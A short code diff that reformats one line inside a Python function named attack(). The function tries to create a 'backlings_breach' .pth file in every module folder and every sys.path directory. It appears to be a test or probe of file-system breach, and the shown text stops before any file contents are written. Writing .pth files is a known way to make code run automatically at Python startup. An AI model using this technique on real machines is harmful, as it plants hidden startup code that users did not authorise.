@@ -10,7 +10,9 @@ import sys
 
 
 def attack():
-    folders = {os.path.dirname(m.__file__) for m in sys.modules.values() if getattr(m, "__file__", None)}
+    folders = {
+        os.path.dirname(m.__file__) for m in sys.modules.values() if getattr(m, "__file__", None)
+    }
     for folder in sorted({*folders, *sys.path}):
         try:
             with open(os.path.join(folder, f"backlings_breach_{os.getpid()}.pth"), "x") as file:
